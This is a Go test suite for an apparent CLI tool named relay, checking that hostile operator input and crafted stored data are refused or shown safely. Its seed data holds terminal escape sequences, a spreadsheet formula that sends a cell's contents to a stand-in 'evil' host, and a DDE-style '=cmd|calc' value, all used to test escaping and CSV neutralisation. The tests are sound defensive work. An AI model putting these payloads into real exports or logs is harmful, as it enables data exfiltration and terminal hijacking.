package hostile_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/relay-dev/relay/internal/cli"
	"github.com/relay-dev/relay/internal/testdb"
)

// The operator-misuse suite: what a careless or hostile operator, or data
// crafted to attack one, does through the CLI. Each case ends in a named
// refusal or in safe output, and nothing stored is lost.

// Data that attacks the terminal it is printed on: an OSC window title, a
// screen erase, a C1 CSI and a bidi override; and cells a spreadsheet would
// run as formulas.
const (
	hostileFile = "\x1b]0;pwned\x07src/evil.go"
	hostilePOI  = "p\x1b[2J\u009b1m\u202e"
	formulaFile = `=HYPERLINK("http://evil/?"&A1,"x")`
	formulaPOI  = "@SUM(A1:A9)"
	hostileItem = "item\x1b[31m\u009b"
)

// seedOperatorData writes failed_pois rows (two updated minutes ago, one a
// year ago) and a dead-lettered item, all carrying hostile text.
func seedOperatorData(t *testing.T, db *testdb.DB) {
	t.Helper()
	_, err := db.Pool.Exec(context.Background(), `
		INSERT INTO failed_pois (original_job_id, file_id, poi_id, poi_index, failed_at, updated_at, error_message,
		                         error_class, error_signature, error_history, original_poi_data)
		VALUES (1, $1, $2, 0, now() - interval '5 minutes', now() - interval '5 minutes', 'bad ' || $2, 'validation', 'bad <str>', '[]', '{}'),
		       (1, $3, $4, 1, now() - interval '5 minutes', now() - interval '5 minutes', '-1+2 error', 'validation', 'bad <str>', '[]', '{}'),
		       (2, 'src/old.go', 'old', 0, now() - interval '400 days', now() - interval '400 days', 'old', 'panic', 'old', '[]', '{}')`,
		hostileFile, hostilePOI, formulaFile, formulaPOI)
	require.NoError(t, err)
	_, err = db.Pool.Exec(context.Background(), `
		INSERT INTO dead_lettered_items (job_id, item_id, item_data, first_attempt, last_attempt, failure_count, error_signature, error_type)
		VALUES ('job1', $1, '{"x": 1}', now() - interval '1 hour', now() - interval '1 hour', 3, '=cmd|calc', 'CommandFailed')`, hostileItem)
	require.NoError(t, err)
}

type rowCounts struct{ failed, items, events int }

func counts(t *testing.T, db *testdb.DB) rowCounts {
	t.Helper()
	return rowCounts{
		failed: testdb.Count(t, db.Pool, `SELECT count(*) FROM failed_pois`),
		items:  testdb.Count(t, db.Pool, `SELECT count(*) FROM dead_lettered_items`),
		events: testdb.Count(t, db.Pool, `SELECT count(*) FROM dead_letter_events`),
	}
}

// TestOperatorMisuse_RefusedWithUsageErrors: out-of-range ages, day counts,
// rates and limits are usage errors (exit 2) that name the flag, and they
// change nothing. A day count once wrapped around time.Duration and purged
// every row.
func TestOperatorMisuse_RefusedWithUsageErrors(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	before := counts(t, db)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"failed", "purge", "--older-than-days", "616385997", "--yes"}, "--older-than-days 616385997 must be between 1 and 36500"},
		{[]string{"failed", "purge", "--older-than-days", "1000000", "--yes"}, "--older-than-days"},
		{[]string{"failed", "purge", "--older-than-days", "36501", "--yes"}, "--older-than-days"},
		{[]string{"failed", "purge", "--older-than-days", "0", "--yes"}, "--older-than-days 0 must be between 1 and 36500"},
		{[]string{"failed", "purge", "--older-than-days", "-3", "--yes"}, "--older-than-days"},
		{[]string{"dlq", "purge", "--older-than-days", "999999", "--yes"}, "--older-than-days 999999 must be between 1 and 36500"},
		{[]string{"dlq", "purge", "--older-than-days", "0", "--yes"}, "--older-than-days 0 must be between 1 and 36500"},
		{[]string{"dlq", "purge", "--older-than-days", "-1", "--yes"}, "--older-than-days"},
		{[]string{"failed", "list", "--since", "1e300d"}, "--since: age \"1e300d\" is more than 36500 days"},
		{[]string{"failed", "list", "--since", "NaNd"}, "--since"},
		{[]string{"failed", "list", "--since", "Infw"}, "--since"},
		{[]string{"failed", "list", "--until", "2000000h"}, "--until: age \"2000000h\" is more than 36500 days"},
		{[]string{"failed", "list", "--since", "-5d"}, "--since"},
		{[]string{"failed", "analyze", "--since", "5300w"}, "--since"},
		{[]string{"reprocess", "--status", "new", "--since", "1e308d", "--yes"}, "--since"},
		{[]string{"reprocess", "--status", "new", "--rate", "NaN", "--yes"}, "--rate"},
		{[]string{"reprocess", "--status", "new", "--rate", "Inf/s", "--yes"}, "--rate"},
		{[]string{"reprocess", "--status", "new", "--rate", "1e-300/s", "--yes"}, "--rate"},
		{[]string{"reprocess", "--status", "new", "--rate", "0", "--yes"}, "--rate"},
		{[]string{"reprocess", "--status", "new", "--rate", "5/y", "--yes"}, "--rate"},
		{[]string{"dlq", "list", "--limit", "999999999"}, "--limit 999999999 must be between 1 and 10000"},
		{[]string{"failed", "list", "--limit", "0"}, "--limit 0 must be between 1 and 10000"},
	} {
		r := relay(t, db, nil, tc.args...)
		require.Equal(t, cli.ExitUsage, r.code, "%q: %s", tc.args, r.stderr)
		require.Contains(t, r.stderr, tc.want, "%q", tc.args)
	}
	require.Equal(t, before, counts(t, db), "a refused command changed nothing")

	// In range, the same commands do what they say: only the year-old row
	// is older than 30 days.
	r := relay(t, db, nil, "failed", "purge", "--older-than-days", "36500", "--yes")
	require.Equal(t, cli.ExitOK, r.code, r.stderr)
	require.Contains(t, r.stdout, "nothing to purge")
	r = relay(t, db, nil, "failed", "purge", "--older-than-days", "30", "--yes")
	require.Equal(t, cli.ExitOK, r.code, r.stderr)
	require.Contains(t, r.stdout, "purged 1 rows")
	require.Equal(t, before.failed-1, counts(t, db).failed)
}

// rawControl reports the first character of s a terminal would obey.
func rawControl(s string) (rune, bool) {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) {
			return r, true
		}
	}
	return 0, false
}

// TestOperatorMisuse_DataNeverControlsTheTerminal prints hostile ids with
// every human-readable command: escape sequences show escaped, while JSON
// keeps the exact values.
func TestOperatorMisuse_DataNeverControlsTheTerminal(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	var id int64
	require.NoError(t, db.Pool.QueryRow(context.Background(), `SELECT id FROM failed_pois WHERE poi_id = $1`, hostilePOI).Scan(&id))
	for _, args := range [][]string{
		{"failed", "list"},
		{"failed", "inspect", "1"},
		{"failed", "analyze"},
		{"failed", "list", "--file-id", hostileFile},
		{"reprocess", "--status", "new", "--dry-run"},
		{"dlq", "list"},
		{"dlq", "inspect", hostileItem},
		{"dlq", "analyze"},
		{"failed", "list", "--json"},
		{"dlq", "list", "--json"},
		{"failed", "inspect", "1", "--json"},
	} {
		r := relay(t, db, nil, args...)
		require.Equal(t, cli.ExitOK, r.code, "%q: %s", args, r.stderr)
		require.NotEmpty(t, r.stdout)
		if c, found := rawControl(r.stdout + r.stderr); found {
			t.Errorf("%q printed a raw %U:\n%s", args, c, r.stdout)
		}
	}
	r := relay(t, db, nil, "failed", "list")
	require.Contains(t, r.stdout, `\u001b]0;pwned\u0007src/evil.go`)

	r = relay(t, db, nil, "failed", "list", "--json", "--file-id", hostileFile)
	var rows []struct {
		FileID string `json:"file_id"`
		POIID  string `json:"poi_id"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &rows))
	require.Len(t, rows, 1)
	require.Equal(t, hostileFile, rows[0].FileID, "JSON keeps the exact value")
	require.Equal(t, hostilePOI, rows[0].POIID)

	// An id given as an argument is echoed safely in an error too.
	r = relay(t, db, nil, "dlq", "inspect", "nope\x1b[2J")
	require.Equal(t, cli.ExitRuntime, r.code)
	_, found := rawControl(r.stderr)
	require.False(t, found, r.stderr)
}

// TestOperatorMisuse_CSVExportsNeutralizeFormulas: cells that a spreadsheet
// would evaluate start with a quote, in both tables' exports.
func TestOperatorMisuse_CSVExportsNeutralizeFormulas(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	dir := t.TempDir()

	read := func(path string) map[string]bool {
		f, err := os.Open(path)
		require.NoError(t, err)
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		require.NoError(t, err)
		cells := map[string]bool{}
		for _, rec := range recs[1:] {
			for _, c := range rec {
				cells[c] = true
				if c != "" {
					require.NotContains(t, "=+-@\t\r", c[:1], "cell %q starts a formula", c)
				}
			}
		}
		return cells
	}
	path := filepath.Join(dir, "failed.csv")
	r := relay(t, db, nil, "failed", "export", path)
	require.Equal(t, cli.ExitOK, r.code, r.stderr)
	cells := read(path)
	require.True(t, cells["'"+formulaFile], "the formula is kept, as text")
	require.True(t, cells["'"+formulaPOI])
	require.True(t, cells["'-1+2 error"])
	require.True(t, cells[hostileFile], "a CSV file is data: no terminal escaping")

	path = filepath.Join(dir, "dlq.csv")
	r = relay(t, db, nil, "dlq", "export", path)
	require.Equal(t, cli.ExitOK, r.code, r.stderr)
	require.True(t, read(path)["'=cmd|calc"])

	// The JSON Lines export is exact.
	path = filepath.Join(dir, "failed.jsonl")
	r = relay(t, db, nil, "failed", "export", path)
	require.Equal(t, cli.ExitOK, r.code, r.stderr)
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Contains(t, string(b), `"file_id":"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"`)
}

// TestOperatorMisuse_ExportsReplaceASymlinkPrivately: an export goes
// through a temporary file with mode 0600 renamed over the path, so a
// symlink planted at the path is replaced, not followed, and its target
// keeps its content.
func TestOperatorMisuse_ExportsReplaceASymlinkPrivately(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim")
	require.NoError(t, os.WriteFile(victim, []byte("keep me"), 0o644))
	for _, args := range [][]string{{"failed", "export"}, {"failed", "export", "--format", "json"}, {"dlq", "export"}, {"dlq", "export", "--format", "jsonl"}} {
		path := filepath.Join(dir, "out-"+strings.Join(args, "-"))
		require.NoError(t, os.Symlink(victim, path))
		r := relay(t, db, nil, append(args, path)...)
		require.Equal(t, cli.ExitOK, r.code, "%q: %s", args, r.stderr)
		st, err := os.Lstat(path)
		require.NoError(t, err)
		require.True(t, st.Mode().IsRegular(), "%q: the symlink is replaced", args)
		require.Equal(t, os.FileMode(0o600), st.Mode().Perm(), "%q", args)
		b, err := os.ReadFile(victim)
		require.NoError(t, err)
		require.Equal(t, "keep me", string(b), "%q: the symlink's target is untouched", args)
	}
}

// TestOperatorMisuse_WriteErrorsFail: output lost to a full disk fails the
// command (exit 1) with a message, for listings, JSON and exports alike.
func TestOperatorMisuse_WriteErrorsFail(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	full, err := os.OpenFile("/dev/full", os.O_WRONLY, 0)
	require.NoError(t, err, "this test needs Linux's /dev/full")
	defer full.Close()
	for _, args := range [][]string{
		{"failed", "list"},
		{"failed", "list", "--json"},
		{"failed", "stats"},
		{"failed", "export", "-"},
		{"dlq", "list"},
		{"dlq", "export", "-", "--format", "csv"},
		{"migrate", "status"},
		{"help"},
	} {
		if args[0] != "help" {
			args = append(args, "--database-url", db.URL, "--database-schema", db.Schema)
		}
		var errOut bytes.Buffer
		code := cli.Main(context.Background(), args, cli.Env{
			Stdin: strings.NewReader(""), Stdout: full, Stderr: &errOut,
			LookupEnv: func(string) (string, bool) { return "", false },
		})
		require.Equal(t, cli.ExitRuntime, code, "%q: %s", args, errOut.String())
		require.Contains(t, errOut.String(), "error writing output", "%q", args)
		require.Contains(t, errOut.String(), "no space left on device", "%q", args)
	}
}

// TestOperatorMisuse_UnmigratedDatabaseSaysWhatToRun: a schema relay has
// never migrated gives the missing relation and the command that fixes it.
func TestOperatorMisuse_UnmigratedDatabaseSaysWhatToRun(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	empty := db.Schema + "_empty"
	_, err := db.Pool.Exec(context.Background(), `CREATE SCHEMA `+empty)
	require.NoError(t, err)
	t.Cleanup(func() { _, _ = db.Pool.Exec(context.Background(), `DROP SCHEMA `+empty+` CASCADE`) })
	for _, args := range [][]string{{"failed", "list"}, {"dlq", "list"}, {"failed", "stats"}, {"reprocess", "--status", "new", "--dry-run"}} {
		var out, errOut bytes.Buffer
		code := cli.Main(context.Background(), append(args, "--database-url", db.URL, "--database-schema", empty), cli.Env{
			Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errOut,
			LookupEnv: func(string) (string, bool) { return "", false },
		})
		require.Equal(t, cli.ExitRuntime, code, "%q", args)
		require.Contains(t, errOut.String(), "does not exist", "%q", args)
		require.Contains(t, errOut.String(), "run `relay migrate up`", "%q", args)
	}
}

// runIn runs relay with stdin and a config file, without the test's
// database flags (a case gives its own).
func runIn(t *testing.T, stdin string, args ...string) result {
	t.Helper()
	var out, errOut bytes.Buffer
	code := cli.Main(context.Background(), args, cli.Env{
		Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errOut,
		LookupEnv: func(string) (string, bool) { return "", false },
	})
	return result{code, out.String(), errOut.String()}
}

// TestOperatorMisuse_CommandsThatRefuse walks the rest of the misuse list
// through the CLI; each refusal is exact and leaves the data in place. The
// packages' own tests go deeper: internal/agent (what an agent sees and
// leaves), config (FuzzRedact), internal/ops (HTTP timeouts), migrations
// (what each rollback destroys).
func TestOperatorMisuse_CommandsThatRefuse(t *testing.T) {
	t.Parallel()
	db := testdb.New(t)
	seedOperatorData(t, db)
	before := counts(t, db)
	dir := t.TempDir()
	dbArgs := []string{"--database-url", db.URL, "--database-schema", db.Schema}

	// migrate down without a terminal: ten runs never reach a rollback that
	// destroys data.
	for range 10 {
		r := runIn(t, "y\n", append([]string{"migrate", "down"}, dbArgs...)...)
		require.Contains(t, []int{cli.ExitOK, cli.ExitRuntime}, r.code, r.stderr)
	}
	require.Equal(t, before, counts(t, db), "failed_pois and dead_lettered_items survive")
	r := runIn(t, "", append([]string{"migrate", "down"}, dbArgs...)...)
	require.Equal(t, cli.ExitRuntime, r.code)
	require.Contains(t, r.stderr, "standard input is not a terminal, so nothing was rolled back")

	// A misspelt key in a config file names the key, and the value (with its
	// password) is not printed.
	conf := filepath.Join(dir, "relay.yaml")
	require.NoError(t, os.WriteFile(conf, []byte("databse_url: postgres://u:s3cr3t#Pss@127.0.0.1:1/x\n"), 0o600))
	r = runIn(t, "", "status", "--config", conf)
	require.Equal(t, cli.ExitUsage, r.code, r.stderr)
	require.Contains(t, r.stderr, `unknown key "databse_url" (did you mean "database_url"?)`)
	require.NotContains(t, r.stderr+r.stdout, "s3cr3t")

	// A password holding '#' is never printed, failing or not.
	r = runIn(t, "", "status", "--database-url", "postgres://adv_pw:s3cr3t#Pss@127.0.0.1:1/relay?connect_timeout=2")
	require.Equal(t, cli.ExitRuntime, r.code)
	require.NotContains(t, r.stderr+r.stdout, "s3cr3t")
	require.NotContains(t, r.stderr+r.stdout, "Pss")

	// A bad --http-addr is a usage error before anything connects.
	r = runIn(t, "", append([]string{"worker", "--until-idle", "--http-addr", "nonsense"}, dbArgs...)...)
	require.Equal(t, cli.ExitUsage, r.code, r.stderr)
	require.Contains(t, r.stderr, "http_addr")

	// An over-long publish line is rejected by number; the rest is published.
	good := `{"fileId":"ok.go","pois":[{"id":"ok1","type":"function_definition","name":"ok","lineNumber":1}]}`
	input := good + "\n" + `{"fileId":"` + strings.Repeat("0", 1<<20) + `"}` + "\n" + strings.ReplaceAll(good, "ok", "ok2") + "\n"
	r = runIn(t, input, append([]string{"publish", "-", "--max-line-bytes", "4096"}, dbArgs...)...)
	require.Equal(t, cli.ExitRuntime, r.code, r.stderr)
	require.Contains(t, r.stderr, "line 2: rejected:")
	require.Contains(t, r.stderr, "exceeds --max-line-bytes")
	require.Equal(t, 2, testdb.Count(t, db.Pool, `SELECT count(*) FROM pois WHERE file_id IN ('ok.go', 'ok2.go')`))

	// MapReduce input PostgreSQL cannot store is refused by line, before
	// anything is enqueued; so is an agent that does not exist.
	items := filepath.Join(dir, "items.jsonl")
	require.NoError(t, os.WriteFile(items, []byte(`{"id":"a"}`+"\n"+`{"id":"nul\u0000"}`+"\n"), 0o600))
	r = runIn(t, "", append([]string{"mapreduce", "run", "--input", items, "--agent", "true"}, dbArgs...)...)
	require.Equal(t, cli.ExitUsage, r.code, r.stderr)
	require.Contains(t, r.stderr, "line 2 (item 2)")
	r = runIn(t, "", append([]string{"mapreduce", "run", "--input", items, "--agent", "./no-such-agent.sh"}, dbArgs...)...)
	require.Equal(t, cli.ExitUsage, r.code, r.stderr)
	require.Contains(t, r.stderr, "no-such-agent.sh")
	require.Zero(t, testdb.Count(t, db.Pool, `SELECT count(*) FROM mapreduce_jobs`))
}
